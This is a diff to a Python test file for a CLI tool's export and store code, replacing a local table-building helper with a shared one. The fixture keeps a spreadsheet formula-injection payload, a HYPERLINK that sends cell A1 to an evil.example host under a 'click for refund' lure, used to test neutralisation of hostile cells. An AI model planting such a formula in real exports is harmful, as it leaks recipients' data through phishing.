@@ -7,6 +7,7 @@ import pandas as pd
 import pytest
 from typer.testing import CliRunner
 
+from tests.contract import contract_frame
 from voc.cli import app
 from voc.errors import StoreError
 from voc.export import ExportError, export, neutralise
@@ -17,19 +18,10 @@ DAY = dt.date(2026, 11, 6)
 HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"点我退款")'
 
 
-def _table(name: str, columns: dict) -> pd.DataFrame:
-    """A frame of table ``name``: the given columns, every other contracted column null."""
-    frame = pd.DataFrame(columns)
-    for column in TABLES[name].names:
-        if column not in frame:
-            frame[column] = None
-    return frame
-
-
 def _publish(out) -> None:
     """A store with one hostile unit, its topic, a scorecard row, an aggregate and an alert."""
     tables = {name: empty(name) for name in TABLES}
-    tables["units"] = _table(
+    tables["units"] = contract_frame(
         "units",
         {
             "unit_id": ["u1", "u2"], "doc_id": ["d1", "d1"], "source_kind": "review",
@@ -40,7 +32,7 @@ def _publish(out) -> None:
             "run_id": "r1",
         }
     )  # fmt: skip
-    tables["topics"] = _table(
+    tables["topics"] = contract_frame(
         "topics",
         {
             "topic_id": [7], "category": "product_quality", "subtopic": "fault",
@@ -49,7 +41,7 @@ def _publish(out) -> None:
             "last_run_id": "r1",
         }
     )  # fmt: skip
-    tables["product_scorecard"] = _table(
+    tables["product_scorecard"] = contract_frame(
         "product_scorecard",
         {
             "as_of": [DAY], "product": "耳机", "category": "product_quality", "topic_id": 7,
@@ -59,7 +51,7 @@ def _publish(out) -> None:
             "example_unit_ids": "u1,u2",
         }
     )  # fmt: skip
-    tables["daily_aggregates"] = _table(
+    tables["daily_aggregates"] = contract_frame(
         "daily_aggregates",
         {
             "date": [DAY], "product": "耳机", "source_kind": "review",
@@ -67,7 +59,7 @@ def _publish(out) -> None:
             "documents": 1, "negative_share": 1.0, "share_of_voice": 1.0, "avg_rating": 1.0,
         }
     )  # fmt: skip
-    tables["alerts"] = _table(
+    tables["alerts"] = contract_frame(
         "alerts",
         {
             "alert_id": ["a1"], "date": DAY, "kind": "negative_volume", "product": "耳机",
@@ -76,7 +68,7 @@ def _publish(out) -> None:
             "severity": "high", "example_unit_ids": "u1,u2", "run_id": "r1",
         }
     )  # fmt: skip
-    tables["runs"] = _table("runs", {"run_id": ["r1"], "status": "succeeded"})
+    tables["runs"] = contract_frame("runs", {"run_id": ["r1"], "status": "succeeded"})
     Store(out).publish("r1", tables, None, {"run_id": "r1"})
 
 
